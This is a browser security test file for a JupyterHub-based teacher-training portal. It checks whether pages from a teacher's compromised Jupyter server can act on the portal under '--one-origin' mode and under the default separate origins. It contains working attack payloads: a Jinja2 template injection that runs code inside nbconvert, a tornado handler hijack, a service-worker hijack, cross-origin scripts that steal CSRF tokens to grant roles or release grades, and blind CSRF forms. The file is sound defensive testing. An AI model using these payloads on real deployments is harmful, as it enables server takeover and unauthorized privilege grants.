"""What a page of a teacher's server can do in the portal: everything on one origin, else nothing.

The same attacks on two platforms, in a real browser: with ``--one-origin``, where they work, and as
it is by default, with the browser's own reason for refusing. Nothing is played: the hostile
server is one that its owner took over by a template of nbconvert's.
"""

import base64
import json
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor

import pytest
from playwright.sync_api import Page, expect
from yanxiu.people.reads import people
from yanxiu.store.engine import open_store

from benchmarks.support.visitor import Visitor as Program
from tests.browser.conftest import Visitor
from tests.support import terminal
from tests.support.site import Running, platform

from .test_chain import A1, fill_form, wait_for

pytestmark = pytest.mark.browser

COUNTY, TEACHER = "县管理员", "包老师"
#: Answers without asking who comes: the server's own login is its owner's to leave out.
TAKEN_OVER = """
import base64
from tornado import web

PAGE = base64.b64decode("{page}")

class Course(web.RequestHandler):
    def get(self):
        self.set_header("Content-Type", "text/html; charset=utf-8")
        self.set_header("Service-Worker-Allowed", "/")
        self.finish(PAGE)

class Worker(web.RequestHandler):
    def get(self):
        self.set_header("Content-Type", "text/javascript")
        self.set_header("Service-Worker-Allowed", "/")
        self.finish("self.onfetch = (event) => event.respondWith(new Response('taken'));")

stock = web.Application.find_handler

def find_handler(self, request, **more):
    for name, handler in (("course.html", Course), ("worker.js", Worker)):
        if request.path.endswith(name):
            return self.get_handler_delegate(request, handler)
    return stock(self, request, **more)

web.Application.find_handler = find_handler
"""
#: nbconvert fills in templates of the folder that it runs in, inside the server's own process.
TEMPLATE = (
    "{%% set builtins = cycler.__init__.__globals__.__builtins__ %%}"
    "{{ builtins.exec(builtins.__import__('base64').b64decode('%s'), {}) }}"
)
#: Reads the form of somebody's roles with the visitor's session, and sends it.
GRANT = """
async () => {
  const at = "%(portal)s/services/records/organize/roles/%(person)s";
  try {
    const text = await (await fetch(at, {credentials: "include"})).text();
    const page = new DOMParser().parseFromString(text, "text/html");
    const form = new URLSearchParams({
      _csrf: page.querySelector("[name=_csrf]").value, role: "county_organizer",
      org: [...page.querySelectorAll("#org option")].find((o) => o.text === "%(county)s").value,
    });
    const done = await fetch(at + "/grants", {method: "POST", credentials: "include", body: form});
    return "sent " + done.status;
  } catch (error) { return String(error); }
}
"""
#: What is left without reading: the right form, with its right token, sent blindly.
BLIND = """
async ([at, form]) => {
  const body = new URLSearchParams(form);
  const out = {};
  try {
    await fetch(at, {method: "POST", mode: "no-cors", credentials: "include", body});
    out.fetch = "sent";
  } catch (error) { out.fetch = String(error); }
  const frame = document.body.appendChild(document.createElement("iframe"));
  frame.name = "hidden";
  const sent = document.body.appendChild(document.createElement("form"));
  Object.assign(sent, {action: at, method: "POST", target: "hidden"});
  for (const [name, value] of body) {
    const field = sent.appendChild(document.createElement("input"));
    Object.assign(field, {name, value});
  }
  sent.submit();
  await new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 3000); });
  try { out.frame = frame.contentDocument.body.innerText; } catch (error) { out.frame = error.name; }
  return out;
}
"""
WINDOW = """
async (portal) => {
  const out = {};
  const opened = window.open(portal + "/hub/home");
  await new Promise((resolve) => setTimeout(resolve, 3000));
  try { out.text = opened.document.body.innerText; } catch (error) { out.text = error.name; }
  const frame = document.body.appendChild(document.createElement("iframe"));
  frame.src = portal + "/hub/home";
  await new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 3000); });
  try { out.frame = frame.contentDocument.body.innerText; } catch (error) { out.frame = error.name; }
  try {
    await navigator.serviceWorker.register("worker.js", {scope: "/"});
    out.worker = "registered";
  } catch (error) { out.worker = error.name; }
  return out;
}
"""


@pytest.fixture(scope="module")
def one_origin(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    with platform(tmp_path_factory.mktemp("one") / "data", "--one-origin") as running:
        yield running


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """As it is by default; one of its own, for what is done to it stays."""
    with platform(tmp_path_factory.mktemp("apart") / "data") as running:
        yield running


@pytest.fixture(params=["one_origin", "site"])
def attacked(request: pytest.FixtureRequest) -> Running:
    """Each platform in turn."""
    running: Running = request.getfixturevalue(request.param)
    return running


@pytest.fixture
def at(chromium) -> Iterator:
    """Make visitors of any platform."""
    made = []

    def make(site: Running, *, javascript: bool = True) -> Visitor:
        context = chromium.new_context(locale="zh-CN", java_script_enabled=javascript)
        context.set_default_timeout(60_000)
        one = Visitor(site, context, context.new_page())
        context.on("console", lambda m: one.console.append(f"{m.type}: {m.text}"))
        made.append(one)
        return one

    yield make
    for one in made:
        one.context.close()


def is_one_origin(site: Running) -> bool:
    return site.url == site.servers


def ensure_running(owner: Program) -> None:
    """Start the server if no earlier test did, and come in."""
    if not owner.api("GET", f"/hub/api/users/{owner.user}").json()["servers"]:
        owner.start_server()
    owner.enter_server()


def take_over(site: Running, name: str, page: str) -> str:
    """Let the owner of a server make it answer everybody with ``page``; return its address."""
    account = site.accounts()[name]
    owner = Program(site.url, site.servers).login(account["username"], account["password"])
    ensure_running(owner)
    code = TAKEN_OVER.format(page=base64.b64encode(page.encode()).decode())
    template = TEMPLATE % base64.b64encode(code.encode()).decode()
    packed = base64.b64encode(template.encode()).decode()
    write = f"echo {packed} | base64 -d > ~/lab/index.html.j2"
    empty = """echo '{"cells":[],"metadata":{},"nbformat":4,"nbformat_minor":5}' > ~/empty.ipynb"""
    # In a thread: the browser's own loop runs in this one.
    with ThreadPoolExecutor(1) as thread:
        thread.submit(terminal.run, owner, "mkdir -p ~/lab", write, empty).result()
    owner.http.get(f"{owner.home}nbconvert/html/empty.ipynb")
    return owner.home


def person_id(site: Running, name: str) -> str:
    store = open_store(f"sqlite:///{site.data}/db/yanxiu.sqlite", site.data / "blobs")
    with store.read() as session:
        found = next(who.id for who in people.accounts(session) if who.name == name)
    store.close()
    return found


def roles(site: Running, name: str) -> list[str]:
    store = open_store(f"sqlite:///{site.data}/db/yanxiu.sqlite", site.data / "blobs")
    with store.read() as session:
        held = people.grants(session, person_id(site, name))
    store.close()
    return sorted(str(role) for role, _ in held)


def blocked_by_cors(one: Visitor) -> list[str]:
    return [line for line in one.console if "blocked by CORS policy" in line]


def grant_script(site: Running) -> str:
    county = "云溪县"
    return GRANT % {"portal": site.url, "person": person_id(site, TEACHER), "county": county}


def test_one_link_to_a_teachers_server(attacked, at):
    """A1: the county organizer follows a link to a server that its owner took over."""
    script = grant_script(attacked)
    home = take_over(
        attacked,
        TEACHER,
        f"<h1>课程</h1><script>({script})().then((a) => document.title = a)</script>",
    )
    organizer = at(attacked)
    page = organizer.login(COUNTY)
    before = roles(attacked, TEACHER)
    assert "county_organizer" not in before
    page.goto(f"{home}course.html")
    if is_one_origin(attacked):
        page.wait_for_function("document.title.startsWith('sent')")
        assert "county_organizer" in roles(attacked, TEACHER)
        expect(page.get_by_role("heading", name="课程")).to_be_visible()
        return
    # The gate: the page is not even loaded.
    expect(page.locator("main")).to_contain_text("属于另一个账号")
    assert page.url.startswith(f"{attacked.url}/services/records/gate")
    assert page.get_by_role("heading", name="课程").count() == 0
    # And were it the organizer's own server that somebody took over, its page would get no further.
    own = take_over(attacked, COUNTY, "<h1>课程</h1>")
    page.goto(f"{own}course.html")
    expect(page.get_by_role("heading", name="课程")).to_be_visible()
    assert page.evaluate(script) == "TypeError: Failed to fetch"
    [reason, *_] = blocked_by_cors(organizer)
    assert f"from origin '{attacked.servers}'" in reason
    assert "No 'Access-Control-Allow-Origin' header" in reason or "preflight" in reason
    assert roles(attacked, TEACHER) == before
    _all_else_fails(attacked, organizer, page, before)


def _all_else_fails(site: Running, organizer: Visitor, page: Page, before: list[str]) -> None:
    """What does not need to read an answer: blind forms, windows, frames, workers."""
    portal = organizer.context.new_page()
    address = f"{site.url}/services/records/organize/roles/{person_id(site, TEACHER)}"
    portal.goto(address)
    form = {
        "_csrf": portal.locator("[name=_csrf]").first.get_attribute("value"),
        "role": "county_organizer",
        "org": portal.locator("#org option", has_text="云溪县").first.get_attribute("value"),
    }
    answers: list[tuple[str, int, str]] = []
    organizer.context.on(
        "response",
        lambda got: (
            answers.append((got.request.method, got.status, got.request.headers.get("cookie", "")))
            if got.url.startswith(address)
            else None
        ),
    )
    said = page.evaluate(BLIND, [f"{address}/grants", form])
    assert "已给出" not in str(said)
    assert answers
    assert {(method, status) for method, status, _ in answers} == {("POST", 403)}
    assert roles(site, TEACHER) == before
    seen = page.evaluate(WINDOW, site.url)
    assert seen == {
        "text": "SecurityError",
        "frame": "SecurityError",
        "worker": "SecurityError",
    } or (
        # A window that the hub's page has cut off, a frame that shows nothing.
        seen["worker"] == "SecurityError"
        and "我的 Jupyter" not in json.dumps(seen, ensure_ascii=False)
    )
    # The same form, from the portal's own page, is good: it was not the token that was wrong.
    portal.get_by_label("在哪个单位").select_option(form["org"])
    portal.locator('input[name="role"][value="county_organizer"]').check()
    portal.get_by_role("button", name="给这个角色").click()
    assert "county_organizer" in roles(site, TEACHER)


CELL = """
async () => {
  const desk = "%(portal)s/services/records/organize/";
  try {
    const list = new DOMParser().parseFromString(
      await (await fetch(desk, {credentials: "include"})).text(), "text/html");
    const row = [...list.querySelectorAll("tr")].find((one) => one.innerText.includes("艾老师")
      || one.textContent.includes("艾老师"));
    const at = new URL(row.querySelector("a").getAttribute("href"), desk).href;
    const page = new DOMParser().parseFromString(
      await (await fetch(at, {credentials: "include"})).text(), "text/html");
    const sheet = page.querySelector("form.marking");
    const form = new URLSearchParams(new FormData(sheet));
    for (const radio of sheet.querySelectorAll("input[type=radio]"))
      if (!form.has(radio.name)) form.set(radio.name, radio.value);
    form.set("comment", "marked by a notebook");
    form.set("do", "release");
    const to = new URL(sheet.getAttribute("action"), desk).href;
    const done = await fetch(to, {method: "POST", credentials: "include", body: form});
    document.title = "sent " + done.status;
  } catch (error) { document.title = String(error); }
}
"""


def test_a_cell_that_an_organizer_runs(attacked, at):
    """A2: it grades a submission, or it does not."""
    alice = at(attacked, javascript=False)
    page = alice.login("艾老师")
    page.get_by_role("link", name="A1 技术支持的学情分析").click()
    fill_form(page, json.loads((A1 / "solution/answers.json").read_text("utf-8"))["answers"])
    page.get_by_role("button", name="提交", exact=True).click()
    expect(page.get_by_text("回执编号")).to_be_visible()

    organizer = at(attacked)
    desk = organizer.login("校管理员")
    desk.get_by_role("link", name="提交与评分").click()
    wait_for(desk, "待评分")
    account = attacked.accounts()["校管理员"]
    program = Program(attacked.url, attacked.servers).login(
        account["username"], account["password"]
    )
    ensure_running(program)
    script = f"({CELL % {'portal': attacked.url}})()"
    cell = f"from IPython.display import Javascript\nJavascript({script!r})"
    notebook = {
        "cells": [
            {"cell_type": "code", "id": "a", "metadata": {}, "execution_count": None}
            | {"outputs": [], "source": cell}
        ],
        "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    program.api(
        "PUT",
        f"{program.home}api/contents/fun.ipynb",
        json={"type": "notebook", "content": notebook},
    )
    lab = organizer.context.new_page()
    lab.goto(f"{program.home}lab/tree/fun.ipynb")
    lab.locator(".jp-Notebook .jp-CodeCell").first.wait_for(timeout=90_000)
    lab.get_by_text("| 空闲").first.wait_for(timeout=60_000)
    lab.locator(".jp-CodeCell .cm-content").first.click()
    lab.keyboard.press("Shift+Enter")
    # JupyterLab gives the page its own title again, so what was seen is what is kept.
    told = "/^(sent|TypeError)/.test(document.title) && document.title"
    title = lab.wait_for_function(told, timeout=60_000).json_value()
    desk.goto(f"{attacked.url}/services/records/organize/")
    row = desk.get_by_role("row", name="艾老师").first
    if is_one_origin(attacked):
        assert title == "sent 200"
        page.goto(f"{attacked.url}/services/records/")
        expect(page.locator("main")).to_contain_text("已通过")
        return
    assert title == "TypeError: Failed to fetch"
    expect(row).to_contain_text("待评分")
    [reason, *_] = blocked_by_cors(organizer)
    assert f"'{attacked.url}/services/records/organize/'" in reason
    assert f"from origin '{attacked.servers}'" in reason


def test_a_shared_computer(site, at):
    """A logs out, B logs in, and A's tab is still there."""
    browser = at(site)
    page = browser.login("艾老师")
    page.goto(f"{site.url}/hub/spawn")
    page.wait_for_url("**/lab**", timeout=90_000)
    alices = page.url.split("/lab")[0]
    portal = browser.context.new_page()
    portal.goto(f"{site.url}/services/records/")
    portal.get_by_role("button", name="退出登录").click()
    expect(portal.get_by_role("heading", name="已退出登录")).to_be_visible()
    browser.page = portal
    portal = browser.login("包老师")
    portal.goto(f"{site.url}/hub/spawn")
    portal.wait_for_url("**/lab**", timeout=90_000)
    assert portal.url.split("/lab")[0] != alices
    # A's tab gets nothing more, and its address says whose it is.
    assert (
        page.evaluate("(at) => fetch(at).then((one) => one.status)", f"{alices}/api/contents")
        == 403
    )
    page.goto(f"{alices}/lab")
    expect(page.locator("main")).to_contain_text("属于另一个账号")
    browser.shot("19-another-account")


def test_a_link_into_jupyter_leads_there_through_the_login(site, at):
    """From a mail, with nobody logged in: login form, gate, the server's own login, the page."""
    browser = at(site)
    account = site.accounts()["艾老师"]
    person = person_id(site, "艾老师")
    program = Program(site.url, site.servers).login(account["username"], account["password"])
    ensure_running(program)
    page = browser.page
    page.goto(f"{site.servers}/user/{person}/lab?reset")
    page.get_by_label("登录名").fill(account["username"])
    page.get_by_label("密码").fill(account["password"])
    page.get_by_role("button", name="登录").click()
    page.wait_for_url(f"{site.servers}/user/{person}/lab**")
    other = browser.context.new_page()
    other.goto(f"{site.url}/hub/user-redirect/lab?reset")
    other.wait_for_url(f"{site.servers}/user/{person}/lab**")
    assert not [line for line in browser.console if "Content Security Policy" in line]


def test_every_page_of_one_origin_says_so(one_origin, at):
    browser = at(one_origin, javascript=False)
    words = "在同一个网址（--one-origin）"
    browser.page.goto(f"{one_origin.url}/hub/login")
    expect(browser.page.get_by_role("alert")).to_contain_text(words)
    page = browser.login("艾老师")
    expect(page.get_by_role("alert")).to_contain_text(words)
